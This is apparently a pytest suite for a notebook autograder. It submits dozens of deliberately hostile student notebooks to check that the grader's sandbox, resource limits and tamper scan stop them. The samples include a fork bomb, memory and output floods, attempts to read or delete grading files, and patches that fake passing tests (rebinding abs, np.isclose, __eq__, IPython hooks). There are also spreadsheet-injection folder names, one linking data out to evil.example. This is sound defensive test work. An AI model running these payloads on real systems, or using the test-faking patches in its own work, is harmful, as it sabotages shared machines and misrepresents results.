"""Untrusted student code: bad submissions of every kind graded in one batch beside good ones.

Each kind of bad submission is a function below, named after what it does, that hands in one
student's 01-slope folder; its `Expect` says what grading must make of it: the score it may get
(never more than honest work earns), the reason it could not be graded, or the flag that sends it to
the instructor for review, and what the student's code saw when it reached for what is not its own.
Kinds that intake or the tamper scan settle before any kernel starts (SETTLED_BEFORE_THE_KERNEL: a
refused file, a restored test cell, a flagged line) are checked by running that intake on them, without a
kernel; a sample of them (IN_THE_BATCH_TOO) and every other kind, with two honest students, are graded by
one `gdgrade autograde` run under tight limits (a 20 s deadline per notebook, where an honest one takes
about 2 s alone: beside the rest of `make test` on two cores, a kind that fills 2 GiB of memory before its
cap stops it once ran past a 10 s one), and the honest students must keep their exact scores.
tests/test_intake.py and tests/test_tamper_scan.py check the same refusals, restorations and flags as units.
"""

from __future__ import annotations

import copy
import csv
import json
import os
import shutil
import socket
import sqlite3
import subprocess
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat
import pytest

from coursekit import answered, nbgrader_meta, new_course, read, require_sandbox, visible_text
from gdgrade import batch
from gdgrade.course import course_api, course_config
from gdgrade.export import read_grades

pytestmark = [pytest.mark.grading, pytest.mark.xdist_group("adversarial")]

ASSIGNMENT = "01-slope"
FULL = 7.0  # 01-slope's points: downhill 1, central difference 2 + 2, cubic 2
WITHOUT_DOWNHILL = FULL - 1
BEFORE_CUBIC = FULL - 2  # everything but the last exercise, whose cell is where the runaway kinds misbehave
LIMITS = {"deadline": 20.0, "output_bytes": 200_000, "memory_mb": 2048, "processes": 128, "file_mb": 16}
SECRET = "gdlab-secret-31337"
ORPHAN_SECONDS = "31337"


@dataclass(frozen=True)
class Expect:
    """What grading must make of a submission."""

    score: float | None = None  # its total in the gradebook (None: it must not be graded)
    failure: str | None = None  # words in the reason it could not be graded
    flag: str | None = None  # words in a review flag
    saw: str | None = None  # words its own printed output must show (what its code could reach)


@dataclass
class Class:
    """The temporary course and what the kinds need to build their submissions."""

    root: Path
    released: nbformat.NotebookNode
    source: nbformat.NotebookNode
    port: int

    def folder(self, student: str) -> Path:
        """The student's submission folder (created)."""
        folder = self.root / "grading" / "submitted" / student / ASSIGNMENT
        folder.mkdir(parents=True, exist_ok=True)
        return folder

    def solved(self, **answers: str) -> nbformat.NotebookNode:
        """The released notebook answered with the solutions, except `answers` (grade_id -> code)."""
        return answered(self.released, self.source, answers)

    def untouched(self) -> nbformat.NotebookNode:
        """The released notebook as the student got it."""
        return copy.deepcopy(self.released)

    def hand_in(self, student: str, nb: nbformat.NotebookNode, name: str = f"{ASSIGNMENT}.ipynb") -> Path:
        """Write the notebook into the student's folder."""
        path = self.folder(student) / name
        nbformat.write(nb, str(path))
        return path

    def hand_in_bytes(self, student: str, data: bytes) -> None:
        """Write raw bytes as the student's notebook."""
        (self.folder(student) / f"{ASSIGNMENT}.ipynb").write_bytes(data)


KINDS: dict[str, tuple[Callable[[Class, str], None], Expect]] = {}
# What intake refuses, restores or flags, and what the tamper scan flags, in the submission's files alone.
SETTLED_BEFORE_THE_KERNEL = {
    # refused: tests/test_intake.py (invalid JSON, empty file, v3, metadata, cells, UTF-8, missing notebook, size cap)
    "invalid_json", "empty_file", "nbformat_version_3", "unreadable_metadata", "cells_are_not_a_list", "not_utf8",
    "misnamed_notebook", "empty_folder", "enormous_notebook",
    # restored from the release and flagged: tests/test_intake.py (edited, deleted, points, copies, metadata, markdown,
    # unknown grade_id, kernel)
    "changes_the_kernel", "deletes_the_test_cells", "duplicates_the_graded_cells", "edits_the_test_cells",
    "invents_a_graded_cell", "raises_the_points_of_its_tests", "turns_an_answer_into_a_graded_test",
    "turns_its_tests_into_markdown",
    # flagged by the tamper scan: tests/test_tamper_scan.py (dunders, module patches, builtins, IPython hooks)
    "answers_with_an_object_equal_to_anything", "empties_every_later_cell", "fakes_a_float_with_type",
    "fakes_equality_after_the_class_body", "patches_numpy_checks", "replaces_abs_for_the_tests",
    "sets_array_ufunc_after_the_class_body", "shadows_abs_through_main_dict", "swallows_its_errors",
}
# One of each way, graded end to end as well: a refusal in the report, restored tests scoring what the answers earn
# (0, and the release's points however many the student gave them), a scan flag marked for review in the gradebook.
IN_THE_BATCH_TOO = {"invalid_json", "edits_the_test_cells", "raises_the_points_of_its_tests", "patches_numpy_checks"}


def kind(expect: Expect):
    """Register a kind of bad submission under its function's name."""

    def register(build: Callable[[Class, str], None]):
        KINDS[build.__name__] = (build, expect)
        return build

    return register


def cells_of(nb, predicate) -> list:
    """The cells whose nbgrader metadata satisfies `predicate`."""
    return [c for c in nb.cells if predicate(nbgrader_meta(c))]


def is_test(meta: dict) -> bool:
    """An autograded test cell."""
    return bool(meta.get("grade")) and not meta.get("solution")


CUBIC = "slope_of_cubic_answer"
DOWNHILL = "slope_downhill_direction_answer"
SOLVED_CUBIC = "def slope_of_5x3(x):\n    return 15 * x ** 2\n"
SOLVED_DOWNHILL = "def downhill_direction(slope):\n    return -1 if slope > 0 else (1 if slope < 0 else 0)\n"


def misbehaves_last(c: Class, student: str, code: str) -> None:
    """Answer everything, but run `code` in the last answer cell before defining the answer."""
    c.hand_in(student, c.solved(**{CUBIC: code + "\n" + SOLVED_CUBIC}))


def reaches_for(c: Class, student: str, attempt: str) -> None:
    """Answer everything; the downhill answer is right only if `attempt` (code) succeeds, and says what it saw."""
    code = ("try:\n" + "\n".join("    " + line for line in attempt.splitlines()) + "\n"
            "    print('REACHED')\n" + "\n".join("    " + line for line in SOLVED_DOWNHILL.splitlines()) + "\n"
            "except Exception as error:\n    print('BLOCKED', type(error).__name__)\n"
            "    def downhill_direction(slope):\n        return 0\n")
    c.hand_in(student, c.solved(**{DOWNHILL: code}))


# ---- runaway code: the limits stop it, the cells that ran keep their points, the rest score 0 ----

# One endless loop stands for all: past the deadline the kernel is killed, not interrupted, so a plain `while True: pass`
# takes the same path as this loop, which also survives the interrupts of a cell's own timeout. It sleeps rather than
# spins: the deadline is wall time, so a loop that burns a core until then proves nothing more, and took ~8 CPU-s.
@kind(Expect(score=BEFORE_CUBIC, flag="deadline"))
def loops_forever_ignoring_interrupts(c, s):
    misbehaves_last(c, s, "import time\nwhile True:\n    try:\n        while True:\n            time.sleep(0.5)\n"
                          "    except KeyboardInterrupt:\n        pass")


@kind(Expect(score=BEFORE_CUBIC, flag="bytes of output"))
def floods_stdout(c, s):
    misbehaves_last(c, s, "while True:\n    print('x' * 10000)")


@kind(Expect(score=BEFORE_CUBIC, flag="bytes of output"))
def floods_html_displays(c, s):
    misbehaves_last(c, s, "from IPython.display import HTML, display\nfor _ in range(10000):\n    display(HTML('<b>' + 'y' * 5000 + '</b>'))")


@kind(Expect(score=BEFORE_CUBIC, flag="bytes of output"))
def floods_images(c, s):
    misbehaves_last(c, s, "from IPython.display import Image, display\nimport base64\n"
                          "png = base64.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==')\n"
                          "for _ in range(100000):\n    display(Image(data=png * 50))")


@kind(Expect(score=BEFORE_CUBIC, flag="memory"))
def allocates_too_much_memory(c, s):
    misbehaves_last(c, s, "hog = bytearray(8 * 1024 ** 3)")


@kind(Expect(score=BEFORE_CUBIC, flag="memory"))
def grows_a_list_until_memory_runs_out(c, s):
    misbehaves_last(c, s, "hog = []\nwhile True:\n    hog.append(bytearray(50 * 1024 ** 2))")


@kind(Expect(score=BEFORE_CUBIC, flag="processes"))
def fork_bomb(c, s):
    misbehaves_last(c, s, "import os, time\nwhile True:\n    if os.fork() == 0:\n        time.sleep(60)")


@kind(Expect(score=BEFORE_CUBIC, flag="processes"))
def starts_threads_without_end(c, s):
    misbehaves_last(c, s, "import threading, time\nwhile True:\n    threading.Thread(target=time.sleep, args=(60,), daemon=True).start()")


@kind(Expect(score=BEFORE_CUBIC, flag="file"))
def writes_a_huge_file(c, s):
    misbehaves_last(c, s, "with open('big.bin', 'wb') as big:\n    for _ in range(64):\n        big.write(bytes(1024 ** 2))")


@kind(Expect(score=BEFORE_CUBIC, flag="kernel died"))
def exits_the_kernel(c, s):
    misbehaves_last(c, s, "import os\nos._exit(3)")


# kill(-1) reaches only what runs in the kernel's own PID namespace as its own user. Graded as root, that is nothing:
# the line does nothing and the answer keeps its points (flagged for review). Graded as a user, it is the timeout
# inside the sandbox, whose end ends the sandbox: the last cell's points are lost.
@kind(Expect(score=FULL if os.geteuid() == 0 else BEFORE_CUBIC, flag="os.kill"))
def kills_every_process_it_can(c, s):
    misbehaves_last(c, s, "import os, signal\nos.kill(-1, signal.SIGKILL)")


@kind(Expect(score=FULL))
def leaves_a_process_running(c, s):
    misbehaves_last(c, s, f"import subprocess\nsubprocess.Popen(['sleep', '{ORPHAN_SECONDS}'], start_new_session=True)")


# ---- reaching for what is not its own: each would earn the downhill point only if it got through ----

@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def reads_the_gradebook(c, s):
    reaches_for(c, s, f"open({str(c.root / 'grading' / 'gradebook.db')!r}, 'rb').read(100)")


@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def writes_into_the_gradebook(c, s):
    reaches_for(c, s, f"open({str(c.root / 'grading' / 'gradebook.db')!r}, 'r+b').write(b'junk')")


@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def reads_the_hidden_tests_in_the_solutions(c, s):
    reaches_for(c, s, f"assert 'HIDDEN' in open({str(c.root / 'solutions' / ASSIGNMENT / (ASSIGNMENT + '.ipynb'))!r}).read()")


@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def reads_the_notebook_being_graded(c, s):
    reaches_for(c, s, f"assert 'HIDDEN' in open({ASSIGNMENT + '.ipynb'!r}).read()")


@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def reads_another_students_submission(c, s):
    reaches_for(c, s, f"open({str(c.root / 'grading' / 'submitted' / 'good' / ASSIGNMENT / (ASSIGNMENT + '.ipynb'))!r}).read()")


@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def deletes_the_course_sources(c, s):
    reaches_for(c, s, f"import shutil\nshutil.rmtree({str(c.root / 'solutions')!r})")


@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def reads_a_secret_outside_the_course(c, s):
    reaches_for(c, s, f"assert {SECRET!r} in open({str(c.root.parent / 'secret.txt')!r}).read()")


@kind(Expect(score=WITHOUT_DOWNHILL, saw="BLOCKED"))
def connects_to_the_network(c, s):
    reaches_for(c, s, f"import socket\nsocket.create_connection(('127.0.0.1', {c.port}), timeout=3).close()")


@kind(Expect(score=0.0, flag="extra files"))
def ships_its_own_gdlab_package(c, s):
    fake = c.folder(s) / "gdlab"
    fake.mkdir()
    (fake / "__init__.py").write_text("import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.isinstance = lambda *a: True\n")
    c.hand_in(s, c.untouched())


# ---- buying points: the notebook's structure, metadata and outputs cannot raise a score ----

@kind(Expect(score=0.0, flag="restored"))
def edits_the_test_cells(c, s):
    nb = c.untouched()
    for cell in cells_of(nb, is_test):
        cell.source = "pass"
    c.hand_in(s, nb)


@kind(Expect(score=0.0, flag="restored"))
def deletes_the_test_cells(c, s):
    nb = c.untouched()
    nb.cells = [cell for cell in nb.cells if not is_test(nbgrader_meta(cell))]
    c.hand_in(s, nb)


@kind(Expect(score=FULL, flag="restored"))
def raises_the_points_of_its_tests(c, s):
    nb = c.solved()
    for cell in cells_of(nb, is_test):
        cell.metadata.nbgrader["points"] = 100
    c.hand_in(s, nb)


@kind(Expect(score=FULL, flag="copy"))
def duplicates_the_graded_cells(c, s):
    nb = c.solved()
    nb.cells = [copy.deepcopy(cell) for cell in nb.cells for _ in range(2 if nbgrader_meta(cell).get("grade") else 1)]
    c.hand_in(s, nb)


@kind(Expect(score=FULL, flag=CUBIC))
def turns_an_answer_into_a_graded_test(c, s):
    nb = c.solved()
    for cell in cells_of(nb, lambda m: m.get("grade_id") == CUBIC):
        cell.metadata.nbgrader.update(grade=True, points=50)
    c.hand_in(s, nb)


@kind(Expect(score=0.0, flag="restored"))
def turns_its_tests_into_markdown(c, s):
    nb = c.untouched()
    for i, cell in enumerate(nb.cells):
        if is_test(nbgrader_meta(cell)):
            nb.cells[i] = nbformat.v4.new_markdown_cell(cell.source, metadata=cell.metadata)
    c.hand_in(s, nb)


@kind(Expect(score=0.0, flag="does not have"))
def invents_a_graded_cell(c, s):
    nb = c.untouched()
    extra = nbformat.v4.new_code_cell("pass")
    extra.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "points": 25,
                                  "grade_id": "free_points", "schema_version": 3}
    nb.cells.append(extra)
    c.hand_in(s, nb)


@kind(Expect(score=FULL, flag="kernel"))
def changes_the_kernel(c, s):
    nb = c.solved()
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
    c.hand_in(s, nb)


@kind(Expect(score=0.0))
def submits_fake_passing_outputs(c, s):
    nb = c.untouched()
    for cell in nb.cells:
        if cell.cell_type == "code":
            cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="all tests passed\n")]
            cell.execution_count = 1
    c.hand_in(s, nb)


@kind(Expect(flag="__eq__"))
def answers_with_an_object_equal_to_anything(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "class Sly(int):\n    def __eq__(self, other):\n        return True\n\n"
                                        "def downhill_direction(slope):\n    return Sly(7)\n"}))


@kind(Expect(flag="get_ipython"))
def empties_every_later_cell(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "get_ipython().input_transformers_post.append(lambda lines: [])"}))


@kind(Expect(flag="builtins"))
def replaces_abs_for_the_tests(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "import builtins\nbuiltins.abs = lambda x: 0\ndef slope_of_5x3(x):\n    return 0 * x"}))


@kind(Expect(flag="get_ipython"))
def swallows_its_errors(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)\n"
                                        "def downhill_direction(slope):\n    return 0\n"}))


@kind(Expect(flag="np.isclose"))
def patches_numpy_checks(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "import numpy as np\nnp.isclose = lambda *a, **k: True\n" + SOLVED_CUBIC}))


# ---- routes a security tester found past the first scan (one changed cell each): flagged, never silently paid ----

WRAP_IN_TRY = ("import ast\nclass Quiet(ast.NodeTransformer):\n    def visit_Module(self, node):\n"
               "        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[ast.ExceptHandler(body=[ast.Pass()])],"
               " orelse=[], finalbody=[])]\n        return ast.fix_missing_locations(node)\n")


@kind(Expect(flag="did not answer the tamper check"))
def empties_later_cells_through_main(c, s):
    nb = c.untouched()
    nb.cells[[i for i, cell in enumerate(nb.cells) if nbgrader_meta(cell).get("grade_id") == DOWNHILL][0]].source = (
        "import __main__\n__main__.get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])")
    c.hand_in(s, nb)


@kind(Expect(flag="changed the AST transformers"))
def wraps_later_cells_through_the_kernel_app(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: WRAP_IN_TRY + "from ipykernel.kernelapp import IPKernelApp\n"
                                        "IPKernelApp.instance().shell.ast_transformers.append(Quiet())\n"
                                        "def downhill_direction(slope):\n    return 0\n"}))


@kind(Expect(flag="changed the input transformers"))
def reaches_the_shell_as_interactive_shell(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "from IPython.core.interactiveshell import InteractiveShell\n"
                                        "InteractiveShell.instance().input_transformers_post.append(lambda lines: lines)\n"
                                        + SOLVED_DOWNHILL}))


@kind(Expect(flag="changed the event callbacks"))
def renames_get_ipython(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "from IPython.core.getipython import get_ipython as gi\n"
                                        "gi().events.register('post_run_cell', lambda result: None)\n" + SOLVED_DOWNHILL}))


@kind(Expect(score=WITHOUT_DOWNHILL, flag="partial credit"))
def buys_partial_credit_with_the_display_hook(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "from ipykernel.kernelapp import IPKernelApp\n"
                                        "def downhill_direction(slope):\n    IPKernelApp.instance().shell.displayhook(2)\n    return 0\n"}))


@kind(Expect(score=WITHOUT_DOWNHILL, flag="partial credit"))
def buys_partial_credit_with_a_built_name(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "import sys\ndef downhill_direction(slope):\n"
                                        "    getattr(sys, 'display' + 'hook')(2)\n    return 0\n"}))


@kind(Expect(flag="Sly.__eq__"))
def fakes_equality_after_the_class_body(c, s):
    c.hand_in(s, c.solved(**{DOWNHILL: "class Sly(int):\n    pass\nSly.__eq__ = lambda self, other: True\n"
                                        "def downhill_direction(slope):\n    return Sly(7)\n"}))


@kind(Expect(flag="__float__"))
def fakes_a_float_with_type(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "F = type('F', (float,), dict(__float__=lambda self: 60.0))\n"
                                    "def slope_of_5x3(x):\n    return F(0)\n"}))


@kind(Expect(flag="__array_ufunc__"))
def sets_array_ufunc_after_the_class_body(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "import numpy as np\nclass A(np.ndarray):\n    pass\nA.__array_ufunc__ = None\n"
                                    + SOLVED_CUBIC}))


@kind(Expect(flag="module numpy"))
def patches_numpy_through_its_dict(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "import numpy as np\nnp.__dict__.update(allclose=lambda *a, **k: True, "
                                    "isclose=lambda *a, **k: True)\ndef slope_of_5x3(x):\n    return 0 * x\n"}))


@kind(Expect(flag="__main__"))
def shadows_abs_through_main_dict(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "import __main__\nd = __main__.__dict__\nd['abs'] = lambda x: 0\n"
                                    "def slope_of_5x3(x):\n    return 0 * x\n"}))


@kind(Expect(flag="changed module builtins: abs"))
def patches_builtins_through_its_dict(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "import builtins as b\nd = b.__dict__\nd['abs'] = lambda x: 0\n"
                                    "def slope_of_5x3(x):\n    return 0 * x\n"}))


@kind(Expect(score=FULL, flag="linecache"))
def prints_the_hidden_tests_it_can_find(c, s):
    c.hand_in(s, c.solved(**{CUBIC: "import linecache, sys\nprint('CACHE', [v[2] for k, v in linecache.cache.items() if 'ipykernel' in k])\n"
                                    "print('IN', In, _ih)\n"
                                    "print('LAST', getattr(sys, 'last_traceback', None))\n" + SOLVED_CUBIC}))


@kind(Expect(score=BEFORE_CUBIC, flag="bytes of output"))
def floods_widget_messages(c, s):
    misbehaves_last(c, s, "import comm\nfor _ in range(10):\n"
                          "    comm.create_comm(target_name='jupyter.widget', data={'state': {'x': 'y' * 30_000_000}})")


# ---- breaking the batch: each is this student's failure, with a clear reason ----

@kind(Expect(failure="JSON"))
def invalid_json(c, s):
    text = json.dumps(nbformat.from_dict(c.untouched()))
    c.hand_in_bytes(s, text[: len(text) // 2].encode())


@kind(Expect(failure="empty"))
def empty_file(c, s):
    c.hand_in_bytes(s, b"")


@kind(Expect(failure="3"))
def nbformat_version_3(c, s):
    c.hand_in_bytes(s, json.dumps({"nbformat": 3, "nbformat_minor": 0, "metadata": {}, "worksheets": [{"cells": []}]}).encode())


@kind(Expect(failure="metadata"))
def unreadable_metadata(c, s):
    raw = json.loads(json.dumps(nbformat.from_dict(c.untouched())))
    raw["metadata"] = ["not", "a", "dict"]
    c.hand_in_bytes(s, json.dumps(raw).encode())


@kind(Expect(failure="cells"))
def cells_are_not_a_list(c, s):
    raw = json.loads(json.dumps(nbformat.from_dict(c.untouched())))
    raw["cells"] = {"0": raw["cells"][0]}
    c.hand_in_bytes(s, json.dumps(raw).encode())


@kind(Expect(failure="UTF-8"))
def not_utf8(c, s):
    c.hand_in_bytes(s, b"\xff\xfe" + "{}".encode("utf-16-le"))


@kind(Expect(failure="no 01-slope.ipynb"))
def misnamed_notebook(c, s):
    c.hand_in(s, c.solved(), name="my answers.ipynb")


@kind(Expect(failure="no 01-slope.ipynb"))
def empty_folder(c, s):
    c.folder(s)


@kind(Expect(failure="MB"))
def enormous_notebook(c, s):
    nb = c.untouched()
    nb.cells.append(nbformat.v4.new_markdown_cell("z" * 30_000_000))
    c.hand_in(s, nb)


IN_THE_BATCH = [name for name in KINDS if name not in SETTLED_BEFORE_THE_KERNEL or name in IN_THE_BATCH_TOO]
HONEST = {"good": FULL, "partial": FULL - 2}
HOSTILE_IDS = ["[g]ood", "*", '=HYPERLINK("https:"&CHAR(47)&CHAR(47)&"evil.example?"&B3,"grades")',
               "@SUM(1+9)*cmd|' -C calc'!A0"]


@dataclass
class Graded:
    """The batch's run, the course, and the scores and review marks in its gradebook."""

    run: object
    root: Path
    scores: dict[str, float]
    report: str
    needs_review: set[str]


def host_listener() -> socket.socket:
    """A listening socket on the grader's 127.0.0.1, at a port below Linux's ephemeral range. Inside the sandbox the
    kernel listens on an ephemeral port of its own loopback (ipykernel's IOPub pipe): a port picked by bind(0) could be
    that very number, and the code that connected to it would seem to have reached the grader (seen once)."""
    low = int(Path("/proc/sys/net/ipv4/ip_local_port_range").read_text().split()[0])
    for port in range(low - 1, max(1024, low - 2000), -1):
        try:
            return socket.create_server(("127.0.0.1", port))
        except OSError:
            continue
    raise RuntimeError(f"no free port on 127.0.0.1 below {low}")


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> Graded:
    """Hand in every kind beside two honest students and grade them all in one batch."""
    require_sandbox()
    root = tmp_path_factory.mktemp("adversarial") / "course"
    new_course(root, [ASSIGNMENT], with_empty_gradebook=True)
    (root.parent / "secret.txt").write_text(SECRET)
    result = course_api(root).generate_assignment(ASSIGNMENT, force=True, create=True)
    assert result["success"], result.get("log")
    listener = host_listener()
    c = Class(root, read(root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
              read(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), listener.getsockname()[1])
    c.hand_in("good", c.solved())
    c.hand_in("partial", c.solved(**{CUBIC: "def slope_of_5x3(x):\n    return 3 * x ** 2"}))
    for name in IN_THE_BATCH:
        KINDS[name][0](c, name)
    for name in HOSTILE_IDS:  # folders that nbgrader would read as patterns, or a spreadsheet as formulas
        c.hand_in(name, c.solved())
    os.makedirs(os.path.join(os.fsencode(root / "grading" / "submitted"), b"bad\xff", ASSIGNMENT.encode()))
    try:
        run = batch.run([ASSIGNMENT], root=root, workers=2, progress=False, limits=LIMITS)
    finally:
        listener.close()
    db_url = course_config(root).CourseDirectory.db_url
    grades = read_grades(db_url, [ASSIGNMENT])
    with sqlite3.connect(root / "grading" / "gradebook.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        review = {row[0] for row in db.execute(
            "SELECT DISTINCT submitted_assignment.student_id FROM grade JOIN submitted_notebook ON grade.notebook_id = "
            "submitted_notebook.id JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id "
            "WHERE grade.needs_manual_grade")}
    scores = {student: grades.total(student, a) for (student, a) in grades.scores}
    report = visible_text((root / "grading" / "report" / "index.html").read_text())
    return Graded(run, root, scores, report, review)


def saw(graded: Graded, student: str) -> str:
    """Everything the student's code printed, from the autograded notebook."""
    nb = read(graded.root / "grading" / "autograded" / student / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    return "".join(o.get("text", "") for cell in nb.cells if cell.cell_type == "code" for o in cell.outputs)


def test_there_are_at_least_25_kinds():
    """Does the suite try at least 25 distinct kinds of bad submission?"""
    assert len(KINDS) >= 25, sorted(KINDS)
    assert SETTLED_BEFORE_THE_KERNEL <= set(KINDS) and IN_THE_BATCH_TOO <= SETTLED_BEFORE_THE_KERNEL


@pytest.fixture(scope="module")
def taken_in(tmp_path_factory) -> dict[str, tuple[dict, list[str], list[str]]]:
    """Every kind settled before the kernel, handed in and taken in as the batch takes it in (no kernel, no grading):
    by student, the notebooks staged for grading, the review flags, and the reasons for a refusal."""
    from gdgrade.course import layout
    from gdgrade.untrusted.intake import take_in

    root = tmp_path_factory.mktemp("intake") / "course"
    new_course(root, [ASSIGNMENT], with_empty_gradebook=True)
    assert course_api(root).generate_assignment(ASSIGNMENT, force=True, create=True)["success"]
    c = Class(root, read(root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
              read(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), 0)
    course = layout(course_config(root))
    for name in SETTLED_BEFORE_THE_KERNEL:
        KINDS[name][0](c, name)
    return {name: take_in(course, name, ASSIGNMENT) for name in SETTLED_BEFORE_THE_KERNEL}


@pytest.mark.parametrize("name", sorted(SETTLED_BEFORE_THE_KERNEL))
def test_kind_is_settled_before_any_kernel_starts(taken_in, name):
    """Is this kind refused with its reason, or taken in with its review flag, by intake and the tamper scan alone?"""
    expect = KINDS[name][1]
    staged, flags, refused = taken_in[name]
    if expect.failure:
        assert not staged and any(expect.failure in reason for reason in refused), (staged, refused)
    else:
        assert staged and any(expect.flag in flag for flag in flags), f"{name}: no flag mentions {expect.flag!r}: {flags}"


@pytest.mark.parametrize("name", IN_THE_BATCH)
def test_bad_submission_gets_what_it_deserves(graded, name):
    """Does this kind of bad submission get its expected score, failure or flag, listed in the report with why?"""
    expect = KINDS[name][1]
    failures = {s: reason for s, _, reason in graded.run.failures}
    flags = [reason for s, _, reason in graded.run.flagged if s == name]
    if expect.failure:
        assert name in failures, f"{name} should not be graded; scores {graded.scores.get(name)}, flags {flags}"
        assert expect.failure in failures[name], failures[name]
        assert failures[name] in graded.report
        return
    assert name not in failures, f"{name} could not be graded: {failures.get(name)}"
    if expect.score is not None:
        assert graded.scores.get(name) == expect.score, f"{name}: scored {graded.scores.get(name)}, flags {flags}"
    if expect.flag:
        assert any(expect.flag in f for f in flags), f"{name}: no flag mentions {expect.flag!r}: {flags}"
        assert name in graded.needs_review, f"{name} is flagged but its grades are not marked for manual grading"
        assert all(f in graded.report for f in flags)
    if expect.saw:
        assert expect.saw in saw(graded, name), f"{name} printed: {saw(graded, name)[-500:]}"


@pytest.mark.parametrize("student, score", HONEST.items())
def test_honest_students_keep_their_exact_scores(graded, student, score):
    """Do the honest submissions graded in the same batch keep exactly the score they earn, without flags?"""
    assert graded.scores.get(student) == score
    assert student not in graded.needs_review
    assert not [f for s, _, f in graded.run.flagged if s == student]


def test_hidden_tests_never_reach_what_the_student_can_print_or_read(graded):
    """An answer that prints linecache, In/_ih and the last traceback finds no hidden test; its feedback shows none."""
    source = read(graded.root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")
    released = "\n".join(c.source for c in read(graded.root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").cells)
    from gdgrade.feedback import hidden_lines

    secret = {line for c in source.cells for line in hidden_lines(c.source) if line not in released and len(line) > 12}
    printed = saw(graded, "prints_the_hidden_tests_it_can_find")
    assert "CACHE" in printed and "IN" in printed
    assert not [line for line in secret if line in printed], "hidden-test source reached the student's own output"
    page = (graded.root / "grading" / "feedback" / "prints_the_hidden_tests_it_can_find" / ASSIGNMENT / f"{ASSIGNMENT}.html")
    text = visible_text(page.read_text())
    assert not [line for line in secret if line in text] and "CACHE [" not in text  # the code shows, not its output


def test_hostile_folder_names_touch_nobody_and_stop_nothing(graded):
    """[g]ood and * never regrade good or clear a flag; formula and non-UTF-8 names are refused; the CSV runs no formula."""
    failures = {s: reason for s, _, reason in graded.run.failures}
    for name in [*HOSTILE_IDS, "bad\\xff"]:
        assert "submission folder refused" in failures.get(name, ""), (name, failures.get(name))
        assert name not in graded.scores
    assert graded.scores["good"] == FULL and "good" not in graded.needs_review
    rows = list(csv.reader((graded.root / "grading" / "grades.csv").open(encoding="utf-8")))
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert not list((graded.root / "grading").glob(".grades.*"))


FLOOD_MEMORY_MB = 600  # every grading process of a run with only the widget flood stays below this


def test_widget_flood_is_cut_off_and_the_notebook_stays_small(graded):
    """Ten 30 MB widget messages: stopped at the output cap, and the autograded notebook stays small."""
    path = graded.root / "grading" / "autograded" / "floods_widget_messages" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert path.stat().st_size < 2_000_000, path.stat().st_size


def test_widget_flood_keeps_the_grader_small(tmp_path):
    """Graded alone, the widget flood leaves every grading process (worker, kernel) under FLOOD_MEMORY_MB."""
    require_sandbox()
    root = tmp_path / "course"
    new_course(root, [ASSIGNMENT], with_empty_gradebook=True)
    assert course_api(root).generate_assignment(ASSIGNMENT, force=True, create=True)["success"]
    c = Class(root, read(root / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
              read(root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), 0)
    floods_widget_messages(c, "flood")
    run = batch.run([ASSIGNMENT], root=root, workers=1, progress=False, limits=LIMITS)
    assert any("bytes of output" in flag for _, _, flag in run.flagged), run.flagged
    print(f"\nwidget flood graded alone: peak memory of one grading process {run.peak_rss_mb:.0f} MiB")
    assert run.peak_rss_mb < FLOOD_MEMORY_MB


def test_nothing_outlives_the_batch(graded):
    """Is every process the submissions started gone once the batch is over?"""
    left = subprocess.run(["pgrep", "-f", f"sleep {ORPHAN_SECONDS}"], capture_output=True, text=True).stdout.split()
    for pid in left:
        subprocess.run(["kill", "-9", pid])
    assert not left, "a process started by a submission outlived the batch"


def test_course_files_are_intact(graded):
    """Are the solutions, the honest students' submissions and the secret untouched by the bad ones?"""
    assert (graded.root / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").is_file()
